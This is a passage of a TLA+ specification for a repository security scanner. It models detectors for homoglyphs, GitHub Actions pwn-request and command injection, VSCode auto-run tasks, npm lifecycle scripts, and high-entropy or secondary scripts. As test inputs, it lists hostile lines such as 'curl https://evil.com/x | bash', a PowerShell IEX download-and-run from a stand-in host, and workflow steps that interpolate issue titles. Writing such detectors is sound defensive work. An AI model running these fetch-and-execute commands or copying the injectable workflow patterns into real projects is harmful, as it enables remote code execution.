\* scanForHomoglyphs on the text, the gate scanFile puts before it, and what
\* scanFile reports for a file with this text
GlyphScan ==
    /\ textOp = "input"
    /\ textOp' = "scanForHomoglyphs"
    /\ textOut' = [findings |-> scanForHomoglyphs(textIn, PathStr(README)),
                   gate |-> needsHomoglyphScan(textIn),
                   reported |-> scanFile(GlyphFile(textIn), <<>>).value]
    /\ UNCHANGED <<textIn, handlerVars, contentVars, aggVars, scanVars>>

GlyphNext == GlyphDetectInvisible \/ GlyphDetectHomoglyphs \/ GlyphScan

SpecGlyph == GlyphInit /\ [][GlyphNext]_vars

(***************************************************************************)
(* Claims about the homoglyph detector (specification SpecGlyph).          *)
(***************************************************************************)
PureAscii(content) == \A k \in 1..Len(content) : content[k] <= 127

\* C11 as stated: on a pure ASCII text without invisible or bidi characters
\* detectHomoglyphs returns no hit and scanForHomoglyphs no finding, so that
\* scanFile reports the same with and without the gate.
C11_AsciiHasNoHomoglyphs ==
    PureAscii(textIn) =>
        /\ textOp = "detectHomoglyphs" => textOut = <<>>
        /\ textOp = "scanForHomoglyphs" =>
               /\ ~textOut.gate
               /\ textOut.findings = <<>>
               /\ textOut.reported = textOut.findings

Hidden == {INVISIBLE_CHARS[c] : c \in 1..Len(INVISIBLE_CHARS)}
              \cup {BIDI_CHARS[c] : c \in 1..Len(BIDI_CHARS)}

\* C12 as stated: the context of every result of detectInvisibleCharacters
\* holds none of INVISIBLE_CHARS and none of BIDI_CHARS in raw form.
C12_ContextHasNoRawHidden ==
    textOp = "detectInvisibleCharacters" =>
        \A k \in 1..Len(textOut) :
            \A j \in 1..Len(textOut[k].context) : textOut[k].context[j] \notin Hidden

\* The 0-based positions of content whose character is one of chars, ascending.
RECURSIVE PositionsFrom(_, _, _)
PositionsFrom(content, chars, i) ==
    IF i > Len(content) THEN <<>>
    ELSE (IF SeqIncludes(chars, content[i]) THEN <<i - 1>> ELSE <<>>)
             \o PositionsFrom(content, chars, i + 1)

\* The example locations a finding may name: those of the first three positions.
FirstThree(content, chars) ==
    LET at == PositionsFrom(content, chars, 1)
    IN Join([k \in 1..(IF Len(at) < 3 THEN Len(at) ELSE 3) |->
                 CodePointOf(content[at[k] + 1]) \o " at pos " \o ToString(at[k])], ", ")

ZeroWidthText(n) == ToString(n) \o " zero-width character(s) detected - potential obfuscation"
BidiText(n) ==
    ToString(n) \o " bidirectional override character(s) detected - potential Trojan Source attack"

\* The findings of fs of the zero-width kind (desc = ZeroWidthText) or of the
\* bidi kind (desc = BidiText), whatever count they give.
OfKind(fs, desc(_), content) ==
    SelectSeq(fs, LAMBDA f : \E n \in 0..Len(content) : f.description = desc(n))

\* What C18 says of one kind of hidden character of content in findings fs.
OnePerKind(fs, content, chars, desc(_)) ==
    LET n == Len(PositionsFrom(content, chars, 1))
    IN IF n = 0 THEN OfKind(fs, desc, content) = <<>>
       ELSE OfKind(fs, desc, content) =
                <<Finding(RED, PathStr(README), desc(n), CAT_HOMOGLYPH,
                          FirstThree(content, chars))>>

\* C18: scanForHomoglyphs emits exactly one RED zero-width finding iff the text
\* holds a zero-width or format character and exactly one RED bidi finding iff
\* it holds a bidi control; each gives the number of occurrences and the first
\* three locations at most; there are at most 3 findings; for hello, U+200B,
\* world the findings are the one zero-width finding naming U+200B.
C18_OneFindingPerKind ==
    textOp = "scanForHomoglyphs" =>
        /\ OnePerKind(textOut.findings, textIn, INVISIBLE_CHARS, ZeroWidthText)
        /\ OnePerKind(textOut.findings, textIn, BIDI_CHARS, BidiText)
        /\ Len(textOut.findings) <= 3
        /\ textIn = HelloWorld =>
               textOut.findings = <<Finding(RED, PathStr(README), ZeroWidthText(1),
                                            CAT_HOMOGLYPH, "U+200B at pos 5")>>

C18_Witness ==
    /\ textOp = "scanForHomoglyphs"
    /\ textIn = LongText
    /\ Len(PositionsFrom(textIn, INVISIBLE_CHARS, 1)) = 4
    /\ Len(PositionsFrom(textIn, BIDI_CHARS, 1)) = 1
    /\ Len(textOut.findings) = 2

(***************************************************************************)
(* The GitHub Actions scanner on workflows: a trigger line, the steps:     *)
(* line and up to MaxSteps steps.                                          *)
(***************************************************************************)
IssueTitle == <<"${{", " ", "github.event.", "issue", ".", "title", " ", "}}">>

OnPullRequestTarget == Line(0, <<"on:", " ", "pull_request", "_target">>)
OnIssues == Line(0, <<"on:", " ", "issues">>)
StepsLine == Line(4, <<"steps:">>)
UsesCheckout == Line(6, <<"-", " ", "uses:", " ", "actions/checkout", "@v4">>)
WithLine == Line(8, <<"with:">>)
RefHeadSha ==
    Line(10, <<"ref:", " ", "${{", " ", "github.event.", "pull_request", ".",
               "head.sha", " ", "}}">>)
RefMain == Line(10, <<"ref:", " ", "main">>)
NameLine == Line(6, <<"-", " ", "name:", " ", "Greet">>)
RunBlockLine == Line(8, <<"run:", " ", "|">>)
EchoStart == Line(10, <<"echo", " ", "start">>)
EchoTitle == Line(10, <<"echo", " ">> \o IssueTitle)
EnvLine == Line(8, <<"env:">>)
EnvTitle == Line(10, <<"TITLE:", " ">> \o IssueTitle)
RunEchoEnv == Line(8, <<"run:", " ", "echo", " ", "$TITLE">>)

\* the steps of the workflows
CheckoutHead == <<UsesCheckout, WithLine, RefHeadSha>>
CheckoutMain == <<UsesCheckout, WithLine, RefMain>>
CheckoutDefault == <<UsesCheckout>>
RunInline == <<NameLine, Line(8, <<"run:", " ", "echo", " ">> \o IssueTitle)>>
RunBlock == <<NameLine, RunBlockLine, EchoStart, EchoTitle>>
RunThenEnv == <<NameLine, RunEchoEnv, EnvLine, EnvTitle>>
EnvThenRun == <<NameLine, EnvLine, EnvTitle, RunEchoEnv>>
UsesWithTitle ==
    <<Line(6, <<"-", " ", "uses:", " ", "actions/github-script", "@main">>),
      WithLine, Line(10, <<"title:", " ">> \o IssueTitle)>>
\* a run: block whose last line is 22 lines below its run: line
LongRunBlock == <<NameLine, RunBlockLine>> \o [k \in 1..21 |-> EchoStart] \o <<EchoTitle>>

Steps ==
    {CheckoutHead, CheckoutMain, CheckoutDefault, RunInline, RunBlock, RunThenEnv,
     EnvThenRun, UsesWithTitle, LongRunBlock}

Workflows ==
    {<<trigger, StepsLine>> \o Flatten(steps) :
        trigger \in {OnPullRequestTarget, OnIssues}, steps \in SeqsUpTo(Steps, MaxSteps)}

WorkflowInit == TextOnly /\ textIn \in Workflows

WorkflowScan ==
    /\ textOp = "input"
    /\ textOp' = "scanGitHubActions"
    /\ textOut' = GitHubActionsScan(textIn, PathStr(WORKFLOW_CI))
    /\ UNCHANGED <<textIn, handlerVars, contentVars, aggVars, scanVars>>

WorkflowNext == WorkflowScan

SpecWorkflow == WorkflowInit /\ [][WorkflowNext]_vars

\* the workflow has a checkout step whose ref: parameter names the head of
\* the pull request
ChecksOutPRHead(lines) ==
    \E k \in 1..(Len(lines) - 2) :
        /\ Includes(Trim(lines[k]), <<"actions/checkout">>)
        /\ lines[k + 1] = WithLine
        /\ StartsWith(Trim(lines[k + 2]), <<"ref:">>)
        /\ lines[k + 2].indent > lines[k + 1].indent
        /\ \/ Includes(Trim(lines[k + 2]), <<"head.sha">>)
           \/ Includes(Trim(lines[k + 2]), <<"head.ref">>)

TriggerText == "pull_request_target event detected - review for pwn-request vulnerability"

\* C13 as stated: a workflow triggered by pull_request_target with such a
\* checkout step, at any position among its checkout steps, gets exactly one
\* RED pwn-request finding and the YELLOW trigger finding.
C13_PwnRequestAtAnyPosition ==
    (/\ textOp = "scanGitHubActions"
     /\ \E k \in 1..Len(textIn) : Includes(Trim(textIn[k]), PULL_REQUEST_TARGET)
     /\ ChecksOutPRHead(textIn))
    => /\ Len(SelectSeq(textOut, LAMBDA f :
                  f.description = PwnRequestText /\ f.riskLevel = RED)) = 1
       /\ \E i \in 1..Len(textOut) :
              textOut[i].description = TriggerText /\ textOut[i].riskLevel = YELLOW

\* the indentation of the run: key of a line that opens a block scalar, -1 for
\* any other line
RunKeyIndent(line) ==
    IF Trim(line) = <<"run:", " ", "|">> THEN line.indent
    ELSE IF Trim(line) = <<"-", " ", "run:", " ", "|">> THEN line.indent + 2
    ELSE -1

IsRunLine(line) ==
    StartsWith(Trim(line), <<"run:">>) \/ StartsWith(Trim(line), <<"-", " ", "run:">>)

\* the run: line whose block line k is part of (k itself for a run: line), 0
\* if line k is part of no run: block
RunLineOf(lines, k) ==
    IF IsRunLine(lines[k]) THEN k
    ELSE LET opening == {r \in 1..(k - 1) :
                            /\ RunKeyIndent(lines[r]) >= 0
                            /\ \A m \in (r + 1)..k :
                                   lines[m].indent > RunKeyIndent(lines[r])}
         IN IF opening = {} THEN 0 ELSE CHOOSE r \in opening : TRUE

InjectionText(c) == "Potential command injection via " \o PathStr(INJECTABLE_CONTEXTS[c])

Reported(findings, k, c) ==
    \E i \in 1..Len(findings) :
        /\ findings[i].riskLevel = RED
        /\ findings[i].description = InjectionText(c)
        /\ "lineNumber" \in DOMAIN findings[i]
        /\ findings[i].lineNumber = k

\* C14 as stated: a command-injection finding is reported only for a line that
\* is part of a run: block (so never for a reference under env: or with:), and
\* every reference in a run: block whose run: line is at most 20 lines above
\* is reported.
C14_InjectionOnlyInRunBlocks ==
    textOp = "scanGitHubActions" =>
        \A k \in 1..Len(textIn) : \A c \in 1..Len(INJECTABLE_CONTEXTS) :
            /\ Reported(textOut, k, c) => RunLineOf(textIn, k) > 0
            /\ (/\ Includes(Trim(textIn[k]), INJECTABLE_CONTEXTS[c])
                /\ RunLineOf(textIn, k) > 0
                /\ k - RunLineOf(textIn, k) <= 20) => Reported(textOut, k, c)

(***************************************************************************)
(* The VSCode scanner on the tasks of a tasks.json: up to MaxTasks tasks,  *)
(* each with or without a label, of type shell, process or npm, with a     *)
(* harmless or a dangerous command, given whole or split into args, and    *)
(* with runOn absent, folderOpen or default.                               *)
(***************************************************************************)
TaskEntries(label, type, command, runOn) ==
    (IF label = <<>> THEN <<>> ELSE << <<"label", JString(label)>> >>)
    \o << <<"type", JString(<<type>>)>> >>
    \o command
    \o (IF runOn = "" THEN <<>>
        ELSE << <<"runOptions", JObject(<< <<"runOn", JString(<<runOn>>)>> >>)>> >>)

TaskCommands ==
    { << <<"command", JString(<<"make">>)>> >>,
      << <<"command", CurlPipeBash>> >>,
      << <<"command", JString(<<"python3">>)>>,
         <<"args", JArray(<<JString(<<"-c">>), JString(<<"import", "os">>)>>)>> >> }

TaskPool ==
    {JObject(TaskEntries(label, type, command, runOn)) :
        label \in {<<>>, <<"build">>}, type \in {"shell", "process", "npm"},
        command \in TaskCommands, runOn \in {"", "folderOpen", "default"}}

TasksJson(tasks) == JObject(<< <<"tasks", JArray(tasks)>> >>)

TasksInit == TextOnly /\ textIn \in SeqsUpTo(TaskPool, MaxTasks)

TasksScan ==
    /\ textOp = "input"
    /\ textOp' = "scanVSCodeTasks"
    /\ textOut' = scanVSCodeTasks(TasksJson(textIn), PathStr(VSCODE_TASKS))
    /\ UNCHANGED <<textIn, handlerVars, contentVars, aggVars, scanVars>>

TasksNext == TasksScan

SpecTasks == TasksInit /\ [][TasksNext]_vars

Count(fs, P(_)) == Len(SelectSeq(fs, P))

AutoRunText(label) ==
    "Task \"" \o label
        \o "\" has runOn: folderOpen - will execute automatically when folder is opened"

DangerTexts(label) ==
    {"Task \"" \o label \o "\" contains potentially dangerous command: "
         \o Join(DANGEROUS_COMMANDS[d], " ") : d \in 1..Len(DANGEROUS_COMMANDS)}

IsShellTask(task) ==
    IsString(Prop(task, "type"), "shell") \/ IsString(Prop(task, "type"), "process")

HasDangerousCommand(task) == findDangerousCommand(getFullCommand(task).value) # ""

\* the tasks of tasks that bear the label of task i and satisfy P
SameLabel(tasks, i, P(_)) ==
    {j \in 1..Len(tasks) : TaskLabel(tasks[j], j) = TaskLabel(tasks[i], i) /\ P(tasks[j])}

\* C15: each task with runOn folderOpen gets exactly one RED finding and no
\* YELLOW finding of a dangerous command, whatever its command; each shell or
\* process task with a dangerous command and no folderOpen gets exactly one
\* YELLOW finding of a dangerous command.  Findings name their task by its
\* label, so the findings of a label are counted against the tasks that bear it.
C15_FolderOpenSupersedes ==
    textOp = "scanVSCodeTasks" =>
        /\ ~textOut.threw
        /\ \A i \in 1..Len(textIn) :
             LET label == TaskLabel(textIn[i], i) IN
             /\ Count(textOut.value,
                      LAMBDA f : f.riskLevel = RED /\ f.description = AutoRunText(label))
                    = Cardinality(SameLabel(textIn, i, RunOnFolderOpen))
             /\ Count(textOut.value,
                      LAMBDA f : f.riskLevel = YELLOW /\ f.description \in DangerTexts(label))
                    = Cardinality(SameLabel(textIn, i,
                          LAMBDA t : IsShellTask(t) /\ HasDangerousCommand(t)
                                         /\ ~RunOnFolderOpen(t)))
        /\ Count(textOut.value, LAMBDA f : f.riskLevel = RED)
               = Cardinality({i \in 1..Len(textIn) : RunOnFolderOpen(textIn[i])})

\* a folderOpen shell task with a dangerous command, before a labelled shell
\* task with a dangerous command and no folderOpen
C15_Witness ==
    /\ textOp = "scanVSCodeTasks"
    /\ Len(textIn) = 2
    /\ RunOnFolderOpen(textIn[1]) /\ IsShellTask(textIn[1]) /\ HasDangerousCommand(textIn[1])
    /\ ~RunOnFolderOpen(textIn[2]) /\ IsShellTask(textIn[2]) /\ HasDangerousCommand(textIn[2])
    /\ TaskLabel(textIn[1], 1) # TaskLabel(textIn[2], 2)
    /\ Count(textOut.value, LAMBDA f : f.riskLevel = RED) = 1
    /\ Count(textOut.value,
             LAMBDA f : f.description \in DangerTexts(TaskLabel(textIn[2], 2))) = 1

(***************************************************************************)
(* The NPM scanner on the scripts of a package.json: up to MaxScripts      *)
(* entries with distinct names.                                            *)
(***************************************************************************)
ScriptNames == {"postinstall", "prepare", "build", "test"}

ScriptContents ==
    {<<"tsc">>, <<"curl", "https://evil.com/x", "|", "bash">>, <<"node", "-e", "run">>,
     <<"node", "fetch", "(", "u", ")">>, <<"eval", "(", "x", ")">>}

ScriptEntries == {<<name, JString(words)>> : name \in ScriptNames, words \in ScriptContents}

Manifests ==
    {scripts \in SeqsUpTo(ScriptEntries, MaxScripts) :
        \A i, j \in 1..Len(scripts) : scripts[i][1] = scripts[j][1] => i = j}

ScriptsInit == TextOnly /\ textIn \in Manifests

ScriptsScan ==
    /\ textOp = "input"
    /\ textOp' = "scanNPMPackage"
    /\ textOut' = scanNPMPackage(JObject(<< <<"scripts", JObject(textIn)>> >>),
                                 PathStr(NPM_PACKAGE))
    /\ UNCHANGED <<textIn, handlerVars, contentVars, aggVars, scanVars>>

ScriptsNext == ScriptsScan

SpecScripts == ScriptsInit /\ [][ScriptsNext]_vars

\* every description by which scanScripts names the script
ScriptTexts(scriptName) ==
    {"Lifecycle script \"" \o scriptName \o "\" contains dangerous command: "
         \o Join(DANGEROUS_COMMANDS[d], " ") : d \in 1..Len(DANGEROUS_COMMANDS)}
    \cup {"Lifecycle script \"" \o scriptName \o "\" makes network requests",
          "Lifecycle script \"" \o scriptName \o "\" accesses environment variables",
          "Lifecycle script \"" \o scriptName
              \o "\" performs base64 operations (possible obfuscation)",
          "Script \"" \o scriptName \o "\" uses eval or exec"}

DangerousOrNetwork(words) == findDangerousCommand(words) # "" \/ npmHasNetworkCall(words)

\* C16 as stated: every script entry with a dangerous command or a network
\* call gets a RED finding if it is a lifecycle script and a YELLOW finding if
\* it is not.
C16_SeverityByScriptKind ==
    textOp = "scanNPMPackage" =>
        /\ ~textOut.threw
        /\ \A i \in 1..Len(textIn) :
               DangerousOrNetwork(textIn[i][2].words) =>
                   \E k \in 1..Len(textOut.value) :
                       /\ textOut.value[k].description \in ScriptTexts(textIn[i][1])
                       /\ textOut.value[k].riskLevel =
                              IF textIn[i][1] \in NPM_LIFECYCLE_SCRIPTS THEN RED ELSE YELLOW

\* the file has content that JSON.parse rejects and is a tasks.json or a
\* package.json
BadJsonFile(file) ==
    /\ HasContent(file)
    /\ getScannerType(file.path) \in {"vscode", "npm"}
    /\ file.content.json = JSyntaxError

\* C17: for a tasks.json or package.json that is not valid JSON the scanner
\* does not throw and returns exactly one finding, YELLOW of category
\* parse-error; the scan of the batch goes on: a result that scanRepository
\* returns holds that one finding and nothing else of the file's ecosystem
\* scanner, lists every file that has content as scanned and holds the
\* findings of the other files, and scanRepository returns whenever no other
\* file's scanner throws.
C17_ParseErrorContained ==
    scanOp = "scanRepository" =>
        /\ \A i \in 1..Len(scanFiles) :
               BadJsonFile(scanFiles[i]) =>
                   LET eco == EcosystemScan(scanFiles[i]) IN
                   /\ ~eco.threw
                   /\ Len(eco.value) = 1
                   /\ eco.value[1].riskLevel = YELLOW
                   /\ eco.value[1].category = CAT_PARSE_ERROR
                   /\ eco.value[1].filePath = PathStr(scanFiles[i].path)
                   /\ Returned =>
                          /\ SelectSeq(scanOut.value.findings,
                                 LAMBDA f : /\ f.filePath = PathStr(scanFiles[i].path)
                                            /\ f.category \in {CAT_PARSE_ERROR, CAT_VSCODE,
                                                               CAT_NPM}) = eco.value
                          /\ scanOut.value.scannedFiles = ReadablePaths(scanFiles)
                          /\ \A j \in 1..Len(scanFiles) :
                                 HasContent(scanFiles[j]) =>
                                     LET own == scanFile(scanFiles[j], scanConfig).value IN
                                     \A k \in 1..Len(own) :
                                         Contains(scanOut.value.findings, own[k])
        /\ (\A i \in 1..Len(scanFiles) :
                HasContent(scanFiles[i]) =>
                    (BadJsonFile(scanFiles[i]) \/ ~EcosystemScan(scanFiles[i]).threw))
               => ~scanOut.threw

\* a tasks.json that is not valid JSON before a package.json with a
\* postinstall script: the result holds the parse error and the RED findings
C17_Witness ==
    /\ Returned
    /\ Len(scanFiles) >= 2
    /\ scanFiles[1].path = VSCODE_TASKS /\ BadJsonFile(scanFiles[1])
    /\ scanFiles[2].path = NPM_PACKAGE /\ scanFiles[2].content = PackagePostinstall
    /\ Len(OfCategory(scanOut.value.findings, CAT_PARSE_ERROR)) = 1
    /\ \E k \in 1..Len(scanOut.value.findings) :
           /\ scanOut.value.findings[k].riskLevel = RED
           /\ scanOut.value.findings[k].category = CAT_NPM

\* the paths of the files of the batch that satisfy P, in the order of the batch
PathsWhere(files, P(_)) ==
    LET chosen == SelectSeq(files, P)
    IN [i \in 1..Len(chosen) |-> PathStr(chosen[i].path)]

\* C19 as stated: in every ScanResult of scanRepository scannedFiles holds
\* exactly the files that were read (exists = true) and skippedFiles exactly
\* the files that could not be read, each in the order of the batch.
C19_ScannedIffExists ==
    Returned =>
        /\ scanOut.value.scannedFiles = PathsWhere(scanFiles, LAMBDA file : file.exists)
        /\ scanOut.value.skippedFiles = PathsWhere(scanFiles, LAMBDA file : ~file.exists)

(***************************************************************************)
(* The entropy analyzer on texts of up to MaxRegions regions of four       *)
(* windows each, and on texts shorter than a window.                       *)
(***************************************************************************)
EntropyRegions ==
    { <<"normal", "normal", "normal", "normal">>,
      <<"critical", "critical", "normal", "high">>,
      <<"normal", "base64", "high", "normal">>,
      <<"high", "normal", "critical", "normal">> }

EntropyText(whole, windows) ==
    [Text(JSyntaxError, <<>>, PlainChars, windows, NoScript)
        EXCEPT !.whole = whole]

EntropyTexts ==
    {EntropyText("long", Flatten(regions)) : regions \in SeqsUpTo(EntropyRegions, MaxRegions)}
    \cup {EntropyText(whole, <<>>) : whole \in {"normal", "high", "critical"}}

EntropyInit == TextOnly /\ textIn \in EntropyTexts

EntropyScan ==
    /\ textOp = "input"
    /\ textOp' = "scanForHighEntropy"
    /\ textOut' = scanForHighEntropy(textIn, PathStr(README))
    /\ UNCHANGED <<textIn, handlerVars, contentVars, aggVars, scanVars>>

EntropyNext == EntropyScan

SpecEntropy == EntropyInit /\ [][EntropyNext]_vars

\* the synthetic summary findings that give a count of dropped findings
SummaryTexts(most) ==
    {ToString(n) \o " additional high entropy regions detected" : n \in 0..most}

\* the findings of fs that are detections, not the summary
Detections(fs, most) == SelectSeq(fs, LAMBDA f : f.description \notin SummaryTexts(most))

\* C20: scanForHighEntropy returns at most 5 detection findings; when the
\* windows yield more than 5 it keeps at most 3 RED and at most 2 YELLOW of
\* them and appends exactly one YELLOW summary whose count is the number of
\* findings dropped; the result has at most 6 entries and holds a RED finding
\* whenever a window produced one.
C20_EntropyLimit ==
    textOp = "scanForHighEntropy" =>
        LET yielded == EntropyDetections(textIn, PathStr(README))
            most == Len(yielded)
            kept == Detections(textOut, most)
            summaries == SelectSeq(textOut, LAMBDA f : f.description \in SummaryTexts(most))
        IN /\ Len(kept) <= 5
           /\ Len(textOut) <= 6
           /\ \A k \in 1..Len(kept) : Contains(yielded, kept[k])
           /\ (most <= 5) => textOut = yielded
           /\ (most > 5) =>
                  /\ Count(kept, LAMBDA f : f.riskLevel = RED) <= 3
                  /\ Count(kept, LAMBDA f : f.riskLevel = YELLOW) <= 2
                  /\ Len(summaries) = 1
                  /\ summaries[1].riskLevel = YELLOW
                  /\ summaries[1].description
                         = ToString(most - Len(kept))
                               \o " additional high entropy regions detected"
                  /\ textOut = Append(kept, summaries[1])
           /\ (\E k \in 1..most : yielded[k].riskLevel = RED)
                  => \E k \in 1..Len(textOut) : textOut[k].riskLevel = RED

\* seven regions report, four of them RED: three RED and two YELLOW are kept
\* and the summary counts the two dropped
C20_Witness ==
    /\ textOp = "scanForHighEntropy"
    /\ Len(EntropyDetections(textIn, PathStr(README))) = 7
    /\ Count(EntropyDetections(textIn, PathStr(README)), LAMBDA f : f.riskLevel = RED) = 4
    /\ Len(textOut) = 6
    /\ textOut[6].description = "2 additional high entropy regions detected"

\* the regions of 2 * WINDOW_SIZE characters in which a window of the text
\* starts
RegionCount(content) ==
    IF content.entropy = <<>> THEN 0
    ELSE ((Len(content.entropy) - 1) * STEP_SIZE) \div (WINDOW_SIZE * 2) + 1

\* C22: for a content of at least one window, scanForHighEntropy reports at
\* most one finding for each region of 2 * WINDOW_SIZE characters, so before
\* the limit is applied there are never more findings than regions.
C22_OneFindingPerRegion ==
    (textOp = "scanForHighEntropy" /\ textIn.whole = "long") =>
        LET reports == EntropyReports(textIn.entropy, 1, {}, <<>>)
            findings == EntropyDetections(textIn, PathStr(README))
        IN /\ Len(findings) = Len(reports)
           /\ \A a, b \in 1..Len(reports) :
                  reports[a].regionKey = reports[b].regionKey => a = b
           /\ \A a \in 1..Len(reports) : reports[a].regionKey \in 0..(RegionCount(textIn) - 1)
           /\ Len(findings) <= RegionCount(textIn)
           /\ Len(findings) <= 5 => Len(textOut) <= RegionCount(textIn)

\* two regions with five windows of high or critical entropy: two findings
C22_Witness ==
    /\ textOp = "scanForHighEntropy"
    /\ textIn.whole = "long"
    /\ textIn.entropy = <<"critical", "critical", "normal", "high",
                          "high", "normal", "critical", "normal">>
    /\ Len(textOut) = 2
    /\ textOut[1].riskLevel = RED
    /\ textOut[2].riskLevel = YELLOW

(***************************************************************************)
(* The secondary-script analyzer on scripts of up to MaxSnippets lines.    *)
(***************************************************************************)
ScriptSnippets ==
    { <<"make">>,
      CurlPipeScript,
      \* eval "$(curl https://example.org/install.sh)"
      <<"eval", " ", "\"", "$(", "curl", " ", "https://example.org/install.sh", ")", "\"">>,
      \* require(name)
      <<"require", "(", "name", ")">>,
      \* require('child_process')
      <<"require", "(", "'", "child_process", "'", ")">>,
      \* child_process.exec(`ls ${dir}`)
      <<"child_process", ".", "exec", "(", BACKQUOTE, "ls", " ", "${", "dir", "}",
        BACKQUOTE, ")">>,
      \* IEX (New-Object Net.WebClient).DownloadString('https://evil.com/x')
      <<"IEX", " ", "(", "New-Object", " ", "Net.WebClient", ")", ".", "DownloadString",
        "(", "'", "https://evil.com/x", "'", ")">>,
      \* see https://pastebin.com/raw/k
      <<"see", " ", "https://pastebin.com/raw/k">> }

RECURSIVE JoinLines(_)
JoinLines(lines) ==
    IF lines = <<>> THEN <<>>
    ELSE IF Len(lines) = 1 THEN lines[1]
    ELSE lines[1] \o <<"\n">> \o JoinLines(Tail(lines))

ScriptText(script) == Text(JSyntaxError, <<>>, PlainChars, <<>>, script)

Scripts == {JoinLines(lines) : lines \in SeqsUpTo(ScriptSnippets, MaxSnippets)} \ {<<>>}

SecondaryInit == TextOnly /\ textIn \in Scripts

SecondaryScan ==
    /\ textOp = "input"
    /\ textOp' = "scanForSecondaryScripts"
    /\ textOut' = [findings |-> scanForSecondaryScripts(ScriptText(textIn), PathStr(README)),
                   gate |-> needsDeepInspection(ScriptText(textIn))]
    /\ UNCHANGED <<textIn, handlerVars, contentVars, aggVars, scanVars>>

\* a text whose windows yield findings of the given severities, one a region
RegionsOf(severities) ==
    Flatten([k \in 1..Len(severities) |->
                <<IF severities[k] = RED THEN "critical" ELSE "high",
                  "normal", "normal", "normal">>])

Severities(findings) == [k \in 1..Len(findings) |-> findings[k].riskLevel]

\* both limits applied to findings of the same severities
SecondaryAndEntropy ==
    /\ textOp = "input"
    /\ textOp' = "limits"
    /\ \E raw \in {SecondaryDetections(textIn, PathStr(README))} :
           textOut' = [raw |-> raw,
                       secondary |-> LimitSecondary(raw, PathStr(README)),
                       entropy |-> scanForHighEntropy(
                                       [ScriptText(textIn) EXCEPT
                                           !.whole = "long",
                                           !.entropy = RegionsOf(Severities(raw))],
                                       PathStr(README))]
    /\ UNCHANGED <<textIn, handlerVars, contentVars, aggVars, scanVars>>

SecondaryNext == SecondaryScan \/ SecondaryAndEntropy

SpecSecondary == SecondaryInit /\ [][SecondaryNext]_vars

\* the count that a summary finding gives: the n for which it reads
\* n additional ... detected
SummaryCount(finding, suffix, most) ==
    {n \in 0..most : finding.description = ToString(n) \o suffix}

\* C21 as stated: when there are more than 5 raw findings the secondary
\* scanner keeps findings of the same severities as the entropy analyzer does
\* (at most 3 RED and at most 2 YELLOW) and its summary gives the same count,
\* the number of findings dropped.
C21_SameLimitAsEntropy ==
    (textOp = "limits" /\ Len(textOut.raw) > 5) =>
        LET kept == Slice0(textOut.secondary, Len(textOut.secondary) - 1)
            summary == textOut.secondary[Len(textOut.secondary)]
        IN /\ Severities(textOut.secondary) = Severities(textOut.entropy)
           /\ Count(kept, LAMBDA f : f.riskLevel = RED) <= 3
           /\ Count(kept, LAMBDA f : f.riskLevel = YELLOW) <= 2
           /\ summary.riskLevel = YELLOW
           /\ SummaryCount(summary, " additional secondary script patterns detected",
                           Len(textOut.raw))
                  = SummaryCount(textOut.entropy[Len(textOut.entropy)],
                                 " additional high entropy regions detected",
                                 Len(textOut.raw))

\* C29 as stated: where needsDeepInspection returns false,
\* scanForSecondaryScripts returns no finding.
C29_PreCheckSound ==
    (textOp = "scanForSecondaryScripts" /\ ~textOut.gate) => textOut.findings = <<>>

(***************************************************************************)
(* calculateEntropy.  A string is the sequence of its code points; its     *)
(* length counts UTF-16 code units, two for a code point above U+FFFF,     *)
(* while for...of visits code points.  Entropies are fixed-point numbers,  *)
(* in thousandths of a bit.                                                *)
(***************************************************************************)
\* Math.log2 of 1..10, in thousandths
Log2Milli == <<0, 1000, 1585, 2000, 2322, 2585, 2807, 3000, 3170, 3322>>

\* data.length
RECURSIVE UnitLength(_)
UnitLength(data) ==
    IF data = <<>> THEN 0
    ELSE (IF data[1] > 65535 THEN 2 ELSE 1) + UnitLength(Tail(data))

\* the frequencies map: the count of each character that for...of visits
Frequencies(data) ==
    [c \in {data[k] : k \in 1..Len(data)} |-> Cardinality({k \in 1..Len(data) : data[k] = c})]

\* the sum over frequencies.values() of -(count / length) * log2(count / length),
\* times length
RECURSIVE EntropySum(_, _, _)
EntropySum(frequencies, chars, length) ==
    IF chars = {} THEN 0
    ELSE LET c == CHOOSE x \in chars : TRUE
             count == frequencies[c]
         IN count * (Log2Milli[length] - Log2Milli[count])
                + EntropySum(frequencies, chars \ {c}, length)

calculateEntropy(data) ==
    IF UnitLength(data) = 0 THEN 0
    ELSE LET frequencies == Frequencies(data)
             length == UnitLength(data)
         IN EntropySum(frequencies, DOMAIN frequencies, length) \div length

\* 'a', 'b', U+00E9 and U+1F600
EntropyAlphabet == {97, 98, 233, 128512}

EntropyData == SeqsUpTo(EntropyAlphabet, MaxDataLen)

ShannonInit == TextOnly /\ textIn \in EntropyData

CalculateEntropy ==
    /\ textOp = "input"
    /\ textOp' = "calculateEntropy"
    /\ textOut' = calculateEntropy(textIn)
    /\ UNCHANGED <<textIn, handlerVars, contentVars, aggVars, scanVars>>

ShannonNext == CalculateEntropy

SpecShannon == ShannonInit /\ [][ShannonNext]_vars

\* C23 as stated: for every non-empty string that is one character repeated,
\* whatever the character and the length, calculateEntropy returns exactly 0.
C23_RepeatedCharacterIsZero ==
    (/\ textOp = "calculateEntropy"
     /\ textIn # <<>>
     /\ \A k \in 1..Len(textIn) : textIn[k] = textIn[1])
        => textOut = 0

(***************************************************************************)
(* The message handler with its other messages: CLEAR_CACHE and            *)
(* GET_STATUS arrive between the steps of a scan.  Their calls are kept    *)
(* in calls, in the order of arrival.                                      *)
(***************************************************************************)
\* CLEAR_CACHE arrives: storage.clearCache removes both keys and the handler
\* awaits its callback
ReceiveClearCache ==
    /\ Len(calls) < MaxCalls
    /\ localStore' = [lastScan |-> NoResult, cache |-> <<>>]
    /\ calls' = Append(calls, [pc |-> "awaitClearCache", reply |-> NoReply])
    /\ UNCHANGED <<isScanning, lastScanResult, syncConfig, findingsArrays, aggOp, aggOut,
                   scanVars, contentVars, textVars>>

\* storage.clearCache resolves: lastScanResult = null and the STATUS reply
ClearCacheResolved(c) ==
    /\ calls[c].pc = "awaitClearCache"
    /\ lastScanResult' = NoResult
    /\ calls' = [calls EXCEPT ![c] =
                    [pc |-> "cleared", reply |-> [type |-> "STATUS", isScanning |-> FALSE]]]
    /\ UNCHANGED <<isScanning, localStore, syncConfig, findingsArrays, aggOp, aggOut,
                   scanVars, contentVars, textVars>>

\* GET_STATUS arrives and is answered at once
handleGetStatus ==
    /\ Len(calls) < MaxCalls
    /\ calls' = Append(calls,
                   [pc |-> "status",
